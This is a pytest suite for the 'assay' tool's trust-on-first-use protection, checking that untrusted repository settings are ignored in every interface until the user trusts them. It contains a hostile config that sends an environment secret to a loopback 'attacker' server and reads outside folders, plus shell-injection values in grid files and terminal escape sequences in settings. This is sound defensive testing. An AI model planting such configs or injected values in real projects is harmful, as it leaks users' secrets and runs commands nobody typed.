"""Trust on first use: effect of an `assay.toml` before and after `assay trust`, in every interface."""

from __future__ import annotations

import dataclasses
import json
import os
import pty
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest

import assay as package
from assay.config import configuration as settled
from assay.config import trust, user
from assay.config.configuration import (
    AskSettings,
    ContextSettings,
    EnrichSettings,
    FlagSettings,
    SearchSettings,
    WorkspaceSettings,
    load,
)
from assay.config.trust import UntrustedSettings
from support.agents import over_stdio
from support.command import COMMAND, ENVIRONMENT, assay
from support.model_server import ModelServer, Stream, run_model_server
from support.repository import Repository
from support.trust import trust_settings
from support.waiting import PATIENCE, until
from support.web_server import run_server

pytestmark = pytest.mark.filterwarnings("ignore::assay.config.trust.UntrustedSettings")  # expected nearly everywhere

SECRET = "a key that only its owner may see"
VARIABLE = "SECRET_OF_THE_USER"
IGNORED = "ignored until you trust it: "


def _answer(path: str, body: dict[str, Any]) -> Any:
    """Whatever it is asked for: vectors, scores, or a written answer."""
    if path.endswith("/embeddings"):
        return {"data": [{"index": place, "embedding": [1.0, 0.0]} for place in range(len(body["input"]))]}
    if path.endswith("/rerank"):
        rows = range(len(body["documents"]))
        return {"results": [{"index": place, "relevance_score": 1.0 - place / 100} for place in rows]}
    return Stream(["Cookies are signed [#1]."])


@pytest.fixture
def attacker(monkeypatch: pytest.MonkeyPatch) -> Iterator[ModelServer]:
    """A server on loopback that takes whatever it is sent, and an environment with something worth sending."""
    monkeypatch.setitem(ENVIRONMENT, VARIABLE, SECRET)
    monkeypatch.setenv(VARIABLE, SECRET)
    with run_model_server(_answer) as server:
        yield server


@pytest.fixture
def clone(repository: Repository, attacker: ModelServer) -> Repository:
    """A hostile repository that was indexed, with a neighbour who has nothing to do with it."""
    repository.write("docs/cookies.md", "# Cookies\n\nCookies are signed with the secret key of the application.\n")
    repository.write("app.py", "def sign_cookie(cookie):\n    return cookie\n")
    neighbour = repository.root.parent / "neighbour"
    neighbour.mkdir()
    (neighbour / "diary.md").write_text("# Diary\n\nCookies are what I had for breakfast.\n")
    url = attacker.url
    repository.write(
        "assay.toml",
        f'[search]\nembedder = "openai:{url}#m"\nembedder_key_variable = "{VARIABLE}"\n'
        f'reranker = "rerank:{url}#m"\nreranker_key_variable = "{VARIABLE}"\n'
        f'[ask]\nmodel = "{url}#m"\nmodel_key_variable = "{VARIABLE}"\n'
        '[workspace]\nroots = [".", "../neighbour"]\n',
    )
    repository.index()
    return repository


def _untouched(clone: Repository) -> bool:
    return sorted(path.name for path in (clone.root.parent / "neighbour").iterdir()) == ["diary.md"]


# before the user's word


@pytest.mark.parametrize(
    "command",
    [
        ("search", "signed cookies", "--format", "json"),
        ("ask", "how are cookies signed?", "--format", "json"),
        ("context", "sign cookies", "--format", "json"),
        ("status", "--format", "json"),
        ("config", "--format", "json"),
        ("index",),
    ],
    ids=lambda command: command[0],
)
def test_no_command_does_what_an_untrusted_repository_asks_for(
    clone: Repository, attacker: ModelServer, command: tuple[str, ...]
) -> None:
    done = assay(clone.root, *command)

    assert attacker.asked == []
    assert _untouched(clone)
    assert done.code in (0, 1), done.err
    lines = [line for line in done.err.splitlines() if IGNORED in line]
    assert len(lines) == 1, done.err
    for name in ("[search] embedder", "[search] reranker_key_variable", "[ask] model", "[workspace] roots"):
        assert name in lines[0]
    assert lines[0].endswith("(assay trust --show)")
    if "json" in command:
        assert done.json


def test_status_and_config_name_the_ignored_settings(clone: Repository) -> None:
    assert "[ask] model" in assay(clone.root, "status", "--format", "json").json["ignored_settings"]
    shown = assay(clone.root, "config", "--format", "json").json
    assert {"name": "workspace.roots", "value": "../neighbour"} in shown["ignored_settings"]
    assert {"name": "search.embedder", "value": "lsa", "origin": "default"} in shown["settings"]
    assert '# [workspace] roots = "../neighbour"' in assay(clone.root, "config").out


def test_the_web_answers_without_what_is_untrusted_and_says_so(clone: Repository, attacker: ModelServer) -> None:
    with run_server(clone.root) as server:
        until(lambda: server.get("/api/search", query="signed cookies").status == 200)
        assert server.get("/api/ask", question="how are cookies signed?").status == 200
        assert "[search] embedder" in server.get("/api/status").json["ignored_settings"]
        assert "Ignored until trusted: [search] embedder" in server.get("/index").text
        trust_settings(clone.root)
        assert server.get("/api/status").json["ignored_settings"] == [], "trust counts without a restart"
    assert attacker.asked == []
    assert _untouched(clone)


def test_agents_are_answered_without_what_is_untrusted_and_told_so(clone: Repository, attacker: ModelServer) -> None:
    async def talk() -> None:
        async with over_stdio(clone.root) as agent:
            told = agent.client.instructions or ""
            assert "has not trusted are ignored: [search] embedder" in told
            await agent.until_fresh()
            assert "cookies" in (await agent.ask("search", query="signed cookies")).lower()
            await agent.call("ask", question="how are cookies signed?")
            await agent.ask("context", task="sign cookies")

    anyio.run(talk)
    assert attacker.asked == []
    assert _untouched(clone)


def test_the_library_ignores_them_and_warns(clone: Repository, attacker: ModelServer) -> None:
    with package.open(clone.root) as repo:
        with pytest.warns(UntrustedSettings, match="ignored until you trust it"):
            results = repo.search("signed cookies")
        assert results
        repo.ask("how are cookies signed?")
        assert repo.ignored_settings[0] == "[search] embedder"
        assert repo.configuration.ask.model == ""
    assert attacker.asked == []


def test_measuring_does_not_contact_them_either(clone: Repository, attacker: ModelServer) -> None:
    clone.write("golden.jsonl", '{"id": "q", "question": "signed cookies", "expected_docs": ["docs/cookies.md"]}\n')
    for system in ("search", "ask"):
        done = assay(clone.root, "eval", "run", "--golden", "golden.jsonl", "--system", system, "--root", ".")
        assert IGNORED in done.err
    assert assay(clone.root, "eval", "sweep", "--queries", "golden.jsonl", "--single").code in (0, 1)
    assert attacker.asked == []


# the user's word


def test_after_trust_they_count_until_it_is_revoked(clone: Repository, attacker: ModelServer) -> None:
    trusted = assay(clone.root, "trust", "--yes")
    assert trusted.code == 0
    assert f"sends the text of all passages and every query to {attacker.url.removesuffix('/v1')}" in trusted.out
    assert f"reads the environment variable {VARIABLE} and sends it to" in trusted.out
    assert f"indexes {clone.root.parent / 'neighbour'} as well" in trusted.out

    assert assay(clone.root, "index").code == 0
    assert (clone.root.parent / "neighbour" / ".assay").is_dir()
    done = assay(clone.root, "search", "signed cookies")
    assert (done.code, IGNORED in done.err) == (0, False)
    assert {path.rpartition("/")[2] for path in attacker.paths} == {"embeddings", "rerank"}
    assert {headers["Authorization"] for headers in attacker.headers} == {f"Bearer {SECRET}"}

    assert assay(clone.root, "trust", "--revoke").code == 0
    before = len(attacker.asked)
    assert IGNORED in assay(clone.root, "search", "signed cookies").err
    assert len(attacker.asked) == before


def test_exit_codes_of_trust(clone: Repository, tmp_path: Path) -> None:
    assert assay(clone.root, "trust", "--show").code == 1
    refused = assay(clone.root, "trust")
    assert (refused.code, "without a terminal" in refused.err) == (2, True)
    assert assay(clone.root, "trust", "--revoke").code == 1
    assert assay(clone.root, "trust", "--yes").code == 0
    shown = assay(clone.root, "trust", "--show", "--format", "json")
    assert (shown.code, shown.json["trusted"]) == (0, True)
    assert assay(clone.root, "trust", "--revoke").code == 0
    (tmp_path / "plain").mkdir()
    assert assay(tmp_path, "trust", "--root", tmp_path / "plain").code == 0


@pytest.mark.parametrize(("typed", "code"), [("y\n", 0), ("n\n", 1), ("\n", 1)])
def test_a_person_is_asked(clone: Repository, typed: str, code: int) -> None:
    person, terminal = pty.openpty()
    try:
        os.write(person, typed.encode())
        done = subprocess.run(
            [*COMMAND, "trust"], cwd=clone.root, env=ENVIRONMENT, stdin=terminal, stderr=terminal, timeout=PATIENCE, check=False,
            stdout=subprocess.DEVNULL,
        )  # fmt: skip
    finally:
        os.close(person)
        os.close(terminal)
    assert done.returncode == code
    assert bool(load(clone.root).ignored) == bool(code)


def test_another_risky_setting_ends_trust_and_a_harmless_one_does_not(clone: Repository) -> None:
    trust_settings(clone.root)
    toml = (clone.root / "assay.toml").read_text()
    clone.write("assay.toml", toml.replace("[search]", "[search]\nk = 5") + "[context]\nbudget = 100\n")
    assert load(clone.root).ignored == ()
    for before, after in (("#m", "#n"), (VARIABLE, "HOME"), ("../neighbour", "..")):
        clone.write("assay.toml", toml.replace(before, after))
        assert load(clone.root).ignored, after
    clone.write("assay.toml", toml)
    assert load(clone.root).ignored == ()


def test_a_link_that_leads_elsewhere_ends_trust(repository: Repository, tmp_path: Path) -> None:
    for name in ("harmless", "private"):
        (tmp_path / name).mkdir()
    repository.write("assay.toml", '[workspace]\nroots = ["vendor"]\n')
    (repository.root / "vendor").symlink_to(tmp_path / "harmless")
    assert load(repository.root).ignored, "a link that leaves the repository is outside of it"
    trust_settings(repository.root)
    assert load(repository.root).workspace.roots == ("vendor",)
    (repository.root / "vendor").unlink()
    (repository.root / "vendor").symlink_to(tmp_path / "private")
    assert load(repository.root).ignored
    (repository.root / "vendor").unlink()
    (repository.root / "vendor").mkdir()
    assert load(repository.root).risks == (), "a folder of its own needs no trust"


def test_a_copy_of_a_trusted_repository_is_not_trusted(clone: Repository, tmp_path: Path) -> None:
    trust_settings(clone.root)
    (tmp_path / "copy").mkdir()
    (tmp_path / "copy" / "assay.toml").write_text((clone.root / "assay.toml").read_text())
    assert load(tmp_path / "copy").ignored


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b'{"file": 1}', b"\xff\xfe", b"[" * 100_000])
def test_a_damaged_decision_is_no_trust_and_one_line(clone: Repository, content: bytes) -> None:
    trust_settings(clone.root)
    user.decision(clone.root / "assay.toml").write_bytes(content)
    with pytest.warns(UntrustedSettings, match="damaged, so it counts as no trust"):
        assert load(clone.root).ignored
    trust_settings(clone.root)
    assert load(clone.root).ignored == ()


def test_decisions_of_processes_at_the_same_time_all_count(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own = tmp_path / "config"
    monkeypatch.setenv("ASSAY_CONFIG_DIR", str(own))
    roots = [tmp_path / str(number) for number in range(4)]
    for root in roots:
        root.mkdir()
        (root / "assay.toml").write_text('[ask]\nmodel = "https://example.com#m"\n')
    commands = [[*COMMAND, "trust", "--yes", "--root", str(root)] for root in roots]
    running = [
        subprocess.Popen(command, env=ENVIRONMENT | {"ASSAY_CONFIG_DIR": str(own)}, stdout=-3, stderr=-3)
        for command in commands
    ]
    assert [process.wait(PATIENCE) for process in running] == [0] * len(roots)
    assert [load(root).ignored for root in roots] == [()] * len(roots)
    modes = {path.name: path.stat().st_mode & 0o777 for path in (own, own / "trust", *(own / "trust").iterdir())}
    assert modes.pop("config") == modes.pop("trust") == 0o700
    assert set(modes.values()) == {0o600}
    assert len(modes) == len(roots)


def test_what_is_shown_cannot_move_the_cursor(repository: Repository) -> None:
    hidden = r"https://example.com/\u001b[2J\u202e\u0007#m"
    repository.write("assay.toml", f'[ask]\nmodel = "{hidden}"\nmodel_key_variable = "A\\nB\\u009b2J"\n')
    for command in (("trust", "--show"), ("config",), ("trust", "--yes")):
        done = assay(repository.root, *command)
        assert not set("\x1b\x07\x9b\u202e") & set(done.out + done.err)
    assert "sends every question and the passages found for it to https://example.com\n" in done.out
    assert len(done.out.splitlines()) == 1 + 2 * 2, "a line and its effect for each setting"


# what is risky


def test_every_setting_is_known_to_be_harmless_or_risky() -> None:
    sections = {
        "context": ContextSettings,
        "search": SearchSettings,
        "ask": AskSettings,
        "workspace": WorkspaceSettings,
        "enrich": EnrichSettings,
        "flags": FlagSettings,
    }
    assert {*sections, "profile", "classes"} == set(settled._SECTIONS)
    for name, kind in sections.items():
        for field in dataclasses.fields(kind):
            harmless = name in trust._HARMLESS and (not trust._HARMLESS[name] or field.name in trust._HARMLESS[name])
            assert harmless != ((name, field.name) in trust._RISKY), f"[{name}] {field.name}: in one of both tables"


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ('[search]\nembedder = "lsa"\nreranker = "features"\nk = 3\nvectors = 0.1\nchunker = "structure:64"\n', 0),
        ('[search]\nembedder = "none"\nreranker = "none"\n', 0),
        ('[search]\nembedder = "wordllama"\n', 0),
        ('[search]\nembedder = "words"\n', 0),
        ('[ask]\nmodel = ""\nmodel_key_variable = ""\nthreshold = 0.1\n', 0),
        ('[search]\nembedder = "openai:https://example.com"\n', 1),
        ('[search]\nembedder = "something:new"\n', 1),
        ('[search]\nembedder = "folder:/usr/share/model"\n', 1),
        ('[search]\nreranker = "folder:model"\n', 1),
        ('[search]\nembedder_key_variable = "HOME"\n', 1),
        ('[workspace]\nroots = [".", "inner", "a=inner/deep", "inner/../inner"]\n', 0),
        ('[workspace]\nroots = ["..", "/", "~", "label=../x", "inner/../..", "~nobody-here/x", "a\\u0000b"]\n', 7),
    ],
)
def test_what_stays_in_the_repository_needs_no_trust(tmp_path: Path, text: str, risky: int) -> None:
    root = tmp_path / "root"
    (root / "inner" / "deep").mkdir(parents=True)
    (root / "assay.toml").write_text(text)
    assert len(load(root).risks) == risky


def test_a_setting_nobody_knows_is_risky(tmp_path: Path) -> None:
    assert [risk.title for risk in trust.risks({"search": {"new": 1}, "hooks": {"run": "x"}}, tmp_path)] == [
        "[search] new",
        "[hooks] run",
    ]


# files that only look like the file


@pytest.mark.parametrize("kind", ["device", "pipe", "folder", "outside", "dangling", "large"])
def test_an_assay_toml_that_is_no_file_of_the_repository_is_one_line(repository: Repository, kind: str) -> None:
    path, outside = repository.root / "assay.toml", repository.root.parent / "outside.toml"
    outside.write_text("[context]\nk = 3\n")
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    elif kind == "large":
        path.write_bytes(b"#" * 1_000_001)
    else:
        path.symlink_to({"device": Path("/dev/zero"), "outside": outside, "dangling": Path("/nowhere")}[kind])
    repository.write("app.py", "def sign():\n    pass\n")
    for command in (("config",), ("trust", "--show")):
        done = assay(repository.root, *command)
        assert done.code == 2, done.out
        assert len(done.err.splitlines()) == 1
        assert "assay.toml: " in done.err
    assert assay(repository.root, "index").code == 0
    assert assay(repository.root, "symbols", "sign").code == 0


def test_a_link_inside_the_repository_is_read(repository: Repository) -> None:
    repository.write("conf/assay.toml", "[context]\nk = 3\n")
    (repository.root / "assay.toml").symlink_to("conf/assay.toml")
    assert load(repository.root).context.k == 3


# folders above


def _writable_for_all(path: Path) -> None:
    path.chmod(0o777)


def _of_another_user(path: Path) -> None:
    os.chown(path, 12345, -1)


@pytest.mark.parametrize("made", [_writable_for_all, _of_another_user])
@pytest.mark.parametrize("which", ["", "assay.toml"])
def test_a_workspace_above_that_others_can_write_does_not_count(tmp_path: Path, made: Any, which: str) -> None:
    if made is _of_another_user and os.geteuid() != 0:
        pytest.skip("only root can give a file away")
    above = tmp_path / "shared"
    (above / "work").mkdir(parents=True)
    (above / "other").mkdir()
    (above / "work" / "a.py").write_text("def mine():\n    pass\n")
    (above / "assay.toml").write_text('[workspace]\nroots = ["work", "other"]\n')
    assert "other" in assay(above / "work", "config").out, "one's own counts"
    made(above / which if which else above)
    done = assay(above / "work", "config")
    assert "other" not in done.out
    assert f"{above / 'assay.toml'}: ignored, as other users can write it" in done.err
    assert assay(above / "work", "index").code == 0
    assert (above / "work" / ".assay").is_dir()
    assert not (above / "other" / ".assay").exists()
    assert "other" in assay(above / "work", "config", "--root", above).out, "named, it counts"


def test_an_index_above_that_others_can_write_does_not_count(tmp_path: Path) -> None:
    above = tmp_path / "shared"
    (above / "work").mkdir(parents=True)
    (above / ".assay").mkdir()
    (above / ".assay" / "current").write_text("x")
    (above / "assay.toml").write_text("[context]\nk = 3\n")
    assert "k = 3 " in assay(above / "work", "config").out
    (above / ".assay").chmod(0o777)
    assert "k = 3 " not in assay(above / "work", "config").out


# programs that a file names


def test_a_grid_file_starts_no_program_and_contacts_no_server(repository: Repository, attacker: ModelServer) -> None:
    marker = repository.root.parent / "marker"
    repository.write("docs/a.md", "# A\n\nCookies are signed.\n")
    repository.write("golden.jsonl", '{"id": "q", "question": "signed cookies", "expected_docs": ["docs/a.md"]}\n')
    repository.index()
    typed = {
        f'system: "cmd:touch {marker}; echo {{query}} {{size}}"\nset: {{size: [1]}}\n': (),
        f'set: {{size: ["1; touch {marker}"]}}\n': ("--system", "cmd:echo {size} {query}"),
        f'embedders: ["openai:{attacker.url}#m"]\n': (),
        f'rerankers: ["rerank:{attacker.url}#m"]\n': (),
        f'set: {{embedder_key_variable: ["{VARIABLE}"]}}\n': (),
        f'set: {{vectors: ["0.5,embedder=openai:{attacker.url}#m"]}}\n': (),
    }
    for grid, options in typed.items():
        repository.write("grid.yaml", grid)
        done = assay(repository.root, "eval", "sweep", "--queries", "golden.jsonl", "--grid", "grid.yaml", *options)
        assert (done.code, "--trust-grid" in done.err) == (2, True), (grid, done.err)
    assert not marker.exists()
    assert attacker.asked == []
    repository.write("grid.yaml", f'embedders: ["openai:{attacker.url}#m"]\nchunk_sizes: [64]\nrerankers: [none]\n')
    arguments = ("eval", "sweep", "--queries", "golden.jsonl", "--grid", "grid.yaml", "--trust-grid")
    assert assay(repository.root, *arguments).code == 0
    assert attacker.asked


def test_a_stored_run_starts_no_program_that_nobody_typed(repository: Repository, tmp_path: Path) -> None:
    marker = tmp_path / "marker"
    repository.write("golden.jsonl", '{"id": "q", "question": "signed cookies", "expected_docs": ["a.md"]}\n')
    spec = f"cmd:touch {marker} {{query}}"
    run = ("eval", "run", "--golden", "golden.jsonl", "--system", spec, "--root", ".")
    assay(repository.root, *run)
    marker.unlink()
    refused = assay(repository.root, "eval", "run", "--resume", "latest", "--root", ".")
    assert refused.code == 2
    assert f"--system '{spec}'" in refused.err
    other = assay(repository.root, "eval", "run", "--resume", "latest", "--system", "cmd:true {query}", "--root", ".")
    assert (other.code, "not cmd:true" in other.err) == (2, True)
    assert not marker.exists()


@pytest.mark.parametrize("name", ["EXPERIMENTS.md", "eval/baseline.json"])
def test_measuring_writes_through_no_link_that_leaves_the_repository(repository: Repository, name: str) -> None:
    outside = repository.root.parent / "outside"
    outside.write_text("mine")
    (repository.root / name).parent.mkdir(exist_ok=True)
    (repository.root / name).symlink_to(outside)
    repository.write("golden.jsonl", '{"id": "q", "question": "signed cookies", "expected_docs": ["a.md"]}\n')
    repository.write("known.run", "q Q0 a.md 1 1 known\n")
    run = ("eval", "run", "--golden", "golden.jsonl", "--system", "trec:known.run", "--root", ".")
    assert assay(repository.root, *run).code == 0
    told = ("--hypothesis", "h", "--what", "w", "--root", ".")
    command = ("baseline", "set", "--root", ".") if "baseline" in name else ("experiment", "new", "title", *told)
    done = assay(repository.root, "eval", *command)
    assert (done.code, "leads out of the repository" in done.err) == (2, True)
    assert outside.read_text() == "mine"


# what is written for agents


@pytest.mark.parametrize("link", [".mcp.json", ".vscode", ".cursor/mcp.json"])
def test_init_writes_through_no_link_that_leaves_the_repository(repository: Repository, link: str) -> None:
    outside = repository.root.parent / "outside"
    outside.mkdir()
    (outside / "mcp.json").write_text('{"own": 1}')
    place = repository.root / link
    place.parent.mkdir(exist_ok=True)
    place.symlink_to(outside if link == ".vscode" else outside / "mcp.json")
    client = {".mcp.json": "claude", ".vscode": "vscode", ".cursor/mcp.json": "cursor"}[link]
    done = assay(repository.root, "init", "--client", client)
    assert (done.code, "leads out of the repository" in done.err) == (1, True)
    assert [path.name for path in outside.iterdir()] == ["mcp.json"]
    assert json.loads((outside / "mcp.json").read_text()) == {"own": 1}
